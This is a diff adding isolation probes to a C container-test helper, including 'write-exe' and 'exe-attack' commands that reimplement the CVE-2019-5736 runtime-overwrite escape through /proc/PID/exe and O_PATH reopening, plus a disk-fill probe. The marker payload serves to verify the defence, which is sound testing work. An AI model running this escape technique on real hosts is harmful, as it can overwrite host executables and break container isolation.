@@ -1048,6 +1048,192 @@ cmd_syscall (int argc, char **argv)
   return rc;
 }
 
+/* ---- isolation probes ------------------------------------------------------------ */
+
+/* try-exec PATH [ARGS...]: execve PATH; on failure the errno name (a noexec
+   mount answers EACCES). */
+static int
+cmd_try_exec (int argc, char **argv)
+{
+  int e;
+
+  execve (argv[1], argv + 1, environ);
+  e = errno;
+  return report (-1, e);
+}
+
+/* fill PATH: write 64 KiB blocks to PATH until a write fails; prints the
+   bytes written and the errno that stopped it (ENOSPC at a tmpfs size). */
+static int
+cmd_fill (int argc, char **argv)
+{
+  static char block[65536];
+  long long total = 0;
+  int fd = open (argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644), e = 0;
+
+  if (fd < 0)
+    return report (-1, errno);
+  memset (block, 'x', sizeof block);
+  for (;;)
+    {
+      ssize_t w = write (fd, block, sizeof block);
+      if (w < 0 && errno == EINTR)
+        continue;
+      if (w < 0)
+        {
+          e = errno;
+          break;
+        }
+      total += w; /* after a short write, the next one says why */
+    }
+  close (fd);
+  printf ("bytes=%lld\nerrno=%s\n", total, errname (e));
+  return e == ENOSPC ? 0 : EXIT_REFUSED;
+}
+
+static const char exe_marker[] = "ABTEST-OVERWROTE-THE-EXE";
+
+/* Whether the file behind fd is not what its path names inside this
+   container: the executable of a process that came from outside (a memfd,
+   a host file), never one of the container's own files, which the attack
+   must not damage. */
+static bool
+exe_from_outside (int fd, const char *target)
+{
+  struct stat a, b;
+
+  if (fstat (fd, &a) < 0)
+    return false;
+  if (strncmp (target, "/memfd:", 7) == 0)
+    return true;
+  return stat (target, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino;
+}
+
+/* Reopen an O_PATH fd for writing through /proc/self/fd and write the
+   marker at offset 0 (CVE-2019-5736).  Returns 0, or the errno. */
+static int
+overwrite_through (int pathfd, bool *opened)
+{
+  char path[64];
+  int fd, e = 0;
+
+  snprintf (path, sizeof path, "/proc/self/fd/%d", pathfd);
+  *opened = false;
+  fd = open (path, O_WRONLY | O_CLOEXEC);
+  if (fd < 0)
+    return errno;
+  *opened = true;
+  if (pwrite (fd, exe_marker, sizeof exe_marker - 1, 0) < 0)
+    e = errno;
+  close (fd);
+  return e;
+}
+
+/* write-exe PID: try to overwrite the executable of PID through
+   /proc/PID/exe, directly and by reopening an O_PATH fd (CVE-2019-5736).
+   Prints target=, open_wronly=, opath=, reopen_write=; exit 0 only if a
+   write got through. */
+static int
+cmd_write_exe (int argc, char **argv)
+{
+  char path[64], target[PATH_MAX] = "";
+  int fd, pathfd, rc = EXIT_REFUSED;
+  ssize_t n;
+  bool opened;
+
+  snprintf (path, sizeof path, "/proc/%s/exe", argv[1]);
+  if ((n = readlink (path, target, sizeof target - 1)) >= 0)
+    target[n] = '\0';
+  printf ("target=%s\n", n >= 0 ? target : errname (errno));
+  fd = open (path, O_WRONLY | O_CLOEXEC);
+  if (fd >= 0)
+    {
+      int e = pwrite (fd, exe_marker, sizeof exe_marker - 1, 0) < 0 ? errno : 0;
+      printf ("open_wronly=ok\nwrite=%s\n", e ? errname (e) : "ok");
+      rc = e ? rc : 0;
+      close (fd);
+    }
+  else
+    printf ("open_wronly=%s\n", errname (errno));
+  pathfd = open (path, O_PATH | O_CLOEXEC);
+  printf ("opath=%s\n", pathfd >= 0 ? "ok" : errname (errno));
+  if (pathfd >= 0)
+    {
+      int e = overwrite_through (pathfd, &opened);
+      printf ("reopen_write=%s\n", e ? errname (e) : "ok");
+      rc = e ? rc : 0;
+      close (pathfd);
+    }
+  return rc;
+}
+
+/* exe-attack MS [STOPFILE]: for MS milliseconds (or until STOPFILE
+   exists), watch every process of the pid namespace and try to overwrite
+   the executable of each one that came from outside the container (an
+   `exec` of the runtime joining us), as the CVE-2019-5736 exploit does: grab
+   /proc/PID/exe as an O_PATH fd and keep reopening it for writing.  Prints
+   counters; exit 0 only if a write got through. */
+static int
+cmd_exe_attack (int argc, char **argv)
+{
+  enum
+  {
+    MAX_HELD = 256
+  };
+  struct timespec t0, now;
+  long ms = (long)num (argv[1]);
+  long scans = 0, seen = 0, outside = 0, opened_wr = 0, written = 0;
+  int held[MAX_HELD], n_held = 0;
+  pid_t self = getpid ();
+
+  clock_gettime (CLOCK_MONOTONIC, &t0);
+  do
+    {
+      DIR *d = opendir ("/proc");
+      struct dirent *de;
+      if (d == NULL)
+        die ("opendir /proc");
+      while ((de = readdir (d)) != NULL)
+        {
+          char path[64], target[PATH_MAX];
+          int pid = atoi (de->d_name), fd;
+          ssize_t n;
+          if (pid <= 0 || pid == self)
+            continue;
+          seen++;
+          snprintf (path, sizeof path, "/proc/%d/exe", pid);
+          if ((fd = open (path, O_PATH | O_CLOEXEC)) < 0)
+            continue;
+          n = readlink (path, target, sizeof target - 1);
+          target[n > 0 ? n : 0] = '\0';
+          if (!exe_from_outside (fd, target) || n_held == MAX_HELD)
+            {
+              close (fd);
+              continue;
+            }
+          outside++;
+          held[n_held++] = fd;
+        }
+      closedir (d);
+      /* The exploit's second half: the runtime has moved on, the file is no
+         longer busy, reopen it for writing. */
+      for (int i = 0; i < n_held; i++)
+        {
+          bool opened;
+          if (overwrite_through (held[i], &opened) == 0)
+            written++;
+          opened_wr += opened;
+        }
+      scans++;
+      clock_gettime (CLOCK_MONOTONIC, &now);
+    }
+  while ((now.tv_sec - t0.tv_sec) * 1000 + (now.tv_nsec - t0.tv_nsec) / 1000000 < ms
+         && (argc < 3 || access (argv[2], F_OK) < 0));
+  printf ("scans=%ld\nseen=%ld\noutside=%ld\nopened_wr=%ld\nwritten=%ld\n", scans, seen, outside, opened_wr,
+          written);
+  return written ? 0 : EXIT_REFUSED;
+}
+
 /* ---- dispatch ---------------------------------------------------------------------- */
 
 static const struct
@@ -1082,6 +1268,8 @@ static const struct
   { "try-ptrace", 0, cmd_try_ptrace, "[PID]" },             { "try-chroot", 0, cmd_path_op, "[DIR]" },
   { "try-sethostname", 0, cmd_path_op, "[NAME]" },          { "open-dev", 1, cmd_path_op, "PATH" },
   { "syscall", 1, cmd_syscall, "NAME..." },
+  { "try-exec", 1, cmd_try_exec, "PATH [ARGS...]" },        { "fill", 1, cmd_fill, "PATH" },
+  { "write-exe", 1, cmd_write_exe, "PID" },                 { "exe-attack", 1, cmd_exe_attack, "MS [STOPFILE]" },
   /* clang-format on */
 };
 
